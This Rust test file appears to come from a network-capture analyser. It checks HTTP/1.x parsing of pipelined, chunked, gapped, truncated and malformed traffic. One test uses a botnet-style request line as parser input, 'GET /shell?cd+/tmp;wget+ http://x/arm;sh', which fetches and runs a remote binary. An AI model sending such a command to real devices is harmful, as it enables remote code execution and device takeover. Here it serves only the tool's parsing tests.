//! HTTP/1.x on hand-built streams: framing, pipelining, holes, lenient and hostile input.

use super::tests::{CLIENT, WEB, at, http, on, records};
use super::*;
use crate::time::Duration;
use crate::wire::Side;

pub(super) fn web(id: u64) -> ConnRef {
    ConnRef {
        id,
        orig: CLIENT,
        resp: WEB,
        rtt: Some(Duration::from_millis(10)),
    }
}

#[test]
fn a_request_and_its_response_with_the_wait_split_by_the_round_trip() {
    let mut app = on();
    let c = web(1);
    app.data(c, Side::Orig, at(100, 4), b"GET /index.html HTTP/1.1\r\nHo");
    app.data(
        c,
        Side::Orig,
        at(101, 5),
        b"st: example.com\r\nUser-Agent: t/1\r\nCookie: JSESSIONID=abc123; theme=dark\r\n\r\n",
    );
    app.data(
        c,
        Side::Resp,
        at(151, 7),
        b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\nSet-Cookie: sid=42; Path=/; Secure; HttpOnly; SameSite=Lax\r\n\r\n01234",
    );
    assert!(!app.has_records());
    app.data(c, Side::Resp, at(160, 8), b"56789");
    let out = records(&mut app);
    let h = http(&out[0]);
    assert_eq!(h.method.as_deref(), Some("GET"));
    assert_eq!(h.host.as_deref(), Some("example.com"));
    assert_eq!(h.uri.as_deref(), Some("/index.html"));
    assert_eq!(h.version.as_deref(), Some("1.1"));
    assert_eq!((h.status_code, h.response_body_len), (Some(200), 10));
    assert_eq!((h.frame, h.request_end.unwrap().frame), (4, 5));
    assert_eq!(h.response_start.unwrap().frame, 7);
    assert_eq!(h.response_end.unwrap().frame, 8);
    assert_eq!(h.ttfb(), Some(Duration::from_millis(50)));
    assert_eq!(h.server_time(), Some(Duration::from_millis(40)));
    let names: Vec<(&str, usize)> = h
        .cookies
        .iter()
        .map(|c| (c.name.as_str(), c.size))
        .collect();
    assert_eq!(names, [("JSESSIONID", 17), ("theme", 10)]);
    let s = &h.set_cookies[0];
    assert_eq!(s.name, "sid");
    assert!(s.attrs.secure && s.attrs.http_only);
    assert_eq!(s.attrs.path.as_deref(), Some("/"));
    assert_eq!(s.attrs.same_site.as_deref(), Some("Lax"));
}

#[test]
fn pipelined_requests_are_answered_in_order_with_chunked_and_bodiless_responses() {
    let mut app = on();
    let c = web(2);
    app.data(
        c,
        Side::Orig,
        at(0, 1),
        b"GET /a HTTP/1.1\r\nHost: h\r\n\r\nHEAD /b HTTP/1.1\r\nHost: h\r\n\r\nPOST /c HTTP/1.1\r\nHost: h\r\nContent-Length: 3\r\n\r\nxyz",
    );
    app.data(
        c,
        Side::Resp,
        at(10, 2),
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nabcd\r\n3;x=1\r\nefg\r\n0\r\n\r\n\
          HTTP/1.1 200 OK\r\nContent-Length: 99\r\n\r\n\
          HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n",
    );
    let out = records(&mut app);
    type Row<'a> = (u32, Option<&'a str>, Option<u16>, u64, u64);
    let got: Vec<Row> = out
        .iter()
        .map(http)
        .map(|h| {
            (
                h.trans_depth,
                h.uri.as_deref(),
                h.status_code,
                h.request_body_len,
                h.response_body_len,
            )
        })
        .collect();
    assert_eq!(
        got,
        [
            (1, Some("/a"), Some(200), 0, 7),
            (2, Some("/b"), Some(200), 0, 0),
            (3, Some("/c"), Some(201), 3, 0),
        ]
    );
}

#[test]
fn a_response_without_length_ends_with_the_connection_and_an_unanswered_request_is_kept() {
    let mut app = on();
    let c = web(3);
    app.data(c, Side::Orig, at(0, 1), b"GET / HTTP/1.0\r\n\r\n");
    app.data(c, Side::Resp, at(5, 2), b"HTTP/1.0 200 OK\r\n\r\nhello");
    app.data(c, Side::Resp, at(6, 3), b" world");
    app.close(3);
    let out = records(&mut app);
    let h = http(&out[0]);
    assert_eq!(h.response_body_len, 11);
    assert_eq!(h.response_end.unwrap().frame, 3);
    let c = web(4);
    app.data(
        c,
        Side::Orig,
        at(0, 1),
        b"GET /never HTTP/1.1\r\nHost: h\r\n\r\n",
    );
    app.close(4);
    let out = records(&mut app);
    assert_eq!(http(&out[0]).status_code, None);
    assert_eq!(http(&out[0]).uri.as_deref(), Some("/never"));
}

#[test]
fn a_hole_inside_a_body_of_known_length_keeps_the_framing() {
    let mut app = on();
    let c = web(5);
    app.data(
        c,
        Side::Orig,
        at(0, 1),
        b"GET /big HTTP/1.1\r\nHost: h\r\n\r\n",
    );
    app.data(
        c,
        Side::Resp,
        at(5, 2),
        b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n0123456789",
    );
    app.gap(5, Side::Resp, 80);
    app.data(c, Side::Resp, at(7, 4), b"0123456789");
    let out = records(&mut app);
    assert_eq!(http(&out[0]).response_end.unwrap().frame, 4);
    assert_eq!(app.stats().gap_bytes, 80);
}

#[test]
fn absurd_headers_and_garbage_are_given_up_and_counted() {
    let mut app = on();
    let c = web(6);
    app.data(c, Side::Orig, at(0, 1), b"GET / HTTP/1.1\r\nX: ");
    let filler = vec![b'a'; 8192];
    for i in 0..20 {
        app.data(c, Side::Orig, at(i, 2 + i as u64), &filler);
    }
    let s = app.stats();
    assert_eq!((s.given_up, s.oversized), (1, 1));
    // Missing CRLFs: a request line that never ends is the same case; garbage after a
    // request is given up without a record.
    let c = web(7);
    app.data(
        c,
        Side::Orig,
        at(0, 1),
        b"GET / HTTP/1.1\r\nHost: h\r\n\r\n",
    );
    app.data(c, Side::Resp, at(1, 2), b"HTTP/1.1 abc\r\n\r\n");
    assert_eq!(app.stats().given_up, 2);
    app.finish();
    // The request is still reported, without a response.
    let out = records(&mut app);
    assert!(
        out.iter()
            .map(http)
            .any(|h| h.conn_id == 7 && h.status_code.is_none())
    );
}

#[test]
fn a_hole_that_swallows_a_body_or_a_message_is_survived() {
    let mut app = on();
    let c = web(10);
    app.data(
        c,
        Side::Orig,
        at(0, 1),
        b"GET /1 HTTP/1.1\r\nHost: h\r\n\r\nGET /2 HTTP/1.1\r\nHost: h\r\n\r\nGET /3 HTTP/1.1\r\nHost: h\r\n\r\n",
    );
    // The first body is missing whole: it ends where the hole ends.
    app.data(
        c,
        Side::Resp,
        at(5, 2),
        b"HTTP/1.1 200 OK\r\nContent-Length: 50\r\n\r\n",
    );
    app.gap(10, Side::Resp, 50);
    // The second response is half lost: the direction waits for the next status line.
    app.data(c, Side::Resp, at(6, 4), b"HTTP/1.1 200 OK\r\nContent-Le");
    app.gap(10, Side::Resp, 30);
    app.data(c, Side::Resp, at(7, 6), b"ngth: 2\r\n\r\nok");
    app.data(
        c,
        Side::Resp,
        at(8, 7),
        b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
    );
    app.close(10);
    let out = records(&mut app);
    let got: Vec<(Option<&str>, Option<u16>)> = out
        .iter()
        .map(http)
        .map(|h| (h.uri.as_deref(), h.status_code))
        .collect();
    // /2's response was cut in its header block after its status line: it keeps the status
    // (as tshark shows it) and has no end; /3 gets the 404.
    assert_eq!(
        got,
        [
            (Some("/1"), Some(200)),
            (Some("/2"), Some(200)),
            (Some("/3"), Some(404))
        ]
    );
    assert_eq!(http(&out[1]).response_end, None);
}

#[test]
fn a_space_before_a_colon_does_not_lose_the_response() {
    let mut app = on();
    let c = web(11);
    app.data(
        c,
        Side::Orig,
        at(0, 1),
        b"GET / HTTP/1.1\r\nHost: h\r\n\r\n",
    );
    app.data(
        c,
        Side::Resp,
        at(1, 2),
        b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Credentials : true\r\nContent-Length: 2\r\n\r\nok",
    );
    let out = records(&mut app);
    assert_eq!(http(&out[0]).response_body_len, 2);
}

#[test]
fn a_server_answering_http_to_something_else_is_still_read() {
    let mut app = on();
    let c = web(13);
    app.data(c, Side::Orig, at(0, 1), b"request 0123456789\n");
    app.data(
        c,
        Side::Resp,
        at(1, 2),
        b"HTTP/1.0 400 Bad request\r\nContent-Length: 3\r\n\r\nbad",
    );
    let out = records(&mut app);
    let h = http(&out[0]);
    assert_eq!(
        (h.method.as_deref(), h.status_code, h.frame),
        (None, Some(400), 2)
    );
    // A keep-alive probe's byte first (a connection picked up midstream), then a request.
    let c = web(16);
    app.data(c, Side::Orig, at(0, 1), b"\x00");
    app.data(
        c,
        Side::Orig,
        at(1, 2),
        b"GET /ping HTTP/1.1\r\nHost: h\r\n\r\n",
    );
    app.data(c, Side::Resp, at(2, 3), b"HTTP/1.1 204 No Content\r\n\r\n");
    let out = records(&mut app);
    assert_eq!(http(&out[0]).uri.as_deref(), Some("/ping"));
    // Deliveries that never tell anything: after a few, nothing more is looked at.
    let c = web(14);
    let told: Vec<bool> = (0..10)
        .map(|i| app.data(c, Side::Orig, at(i, i as u64 + 1), b"\x00\x01garbage"))
        .collect();
    assert!(told[0] && !told[9], "{told:?}");
}

#[test]
fn a_request_cut_after_its_first_line_is_still_reported() {
    // The snaplen cut a request after "GET /x HTTP/1.1\r\nHo": the rest is a hole.
    let mut app = on();
    let c = web(15);
    app.data(c, Side::Orig, at(0, 1), b"GET /x HTTP/1.1\r\nHo");
    app.gap(15, Side::Orig, 40);
    app.data(
        c,
        Side::Resp,
        at(1, 2),
        b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
    );
    let out = records(&mut app);
    let h = http(&out[0]);
    assert_eq!(
        (h.method.as_deref(), h.uri.as_deref()),
        (Some("GET"), Some("/x"))
    );
    assert_eq!(h.status_code, Some(200));
}

#[test]
fn a_request_line_with_a_space_in_its_target_is_read_as_tshark_reads_it() {
    let mut app = on();
    let c = web(17);
    app.data(
        c,
        Side::Orig,
        at(0, 1),
        b"GET /shell?cd+/tmp;wget+ http://x/arm;sh HTTP/1.1\r\nHost: h\r\nUser-Agent: bot\r\n\r\n",
    );
    app.close(17);
    let out = records(&mut app);
    let h = http(&out[0]);
    assert_eq!(h.uri.as_deref(), Some("/shell?cd+/tmp;wget+"));
    assert_eq!(
        (h.version.as_deref(), h.host.as_deref()),
        (Some("1.1"), Some("h"))
    );
    assert_eq!(h.user_agent.as_deref(), Some("bot"));
}

#[test]
fn a_connection_picked_up_with_the_servers_segment_first_is_read_the_right_way_round() {
    let mut app = on();
    // The table named the server the originator: its segment came first, no SYN seen.
    let c = ConnRef {
        id: 18,
        orig: WEB,
        resp: CLIENT,
        rtt: None,
    };
    app.data(
        c,
        Side::Orig,
        at(0, 1),
        b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok",
    );
    app.data(
        c,
        Side::Resp,
        at(1, 2),
        b"GET /next HTTP/1.1\r\nHost: h\r\n\r\n",
    );
    app.data(
        c,
        Side::Orig,
        at(2, 3),
        b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
    );
    let out = records(&mut app);
    let got: Vec<(Option<&str>, Option<u16>)> = out
        .iter()
        .map(http)
        .map(|h| (h.uri.as_deref(), h.status_code))
        .collect();
    assert_eq!(got, [(None, Some(200)), (Some("/next"), Some(404))]);
    // Client and server as they really are.
    assert_eq!((http(&out[1]).orig, http(&out[1]).resp), (CLIENT, WEB));
}
